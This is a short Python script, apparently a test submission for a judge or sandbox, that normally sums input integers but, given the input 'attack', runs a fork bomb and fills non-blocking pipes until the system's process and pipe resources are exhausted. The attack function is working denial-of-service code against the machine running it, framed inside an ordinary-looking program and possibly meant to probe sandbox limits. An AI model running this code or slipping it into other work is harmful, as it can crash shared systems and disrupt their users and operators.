import os
import time


def fill():
    try:
        while True:
            read, write = os.pipe2(os.O_NONBLOCK)
            try:
                while os.write(write, bytes(1 << 16)):
                    continue
            except BlockingIOError:
                continue
    except OSError:
        return


def attack():
    try:
        while os.fork():
            continue
        fill()
        time.sleep(100)
    except OSError:
        print("full")


words = input().split()
if words == ["attack"]:
    attack()
else:
    print(sum(map(int, words[1:])))
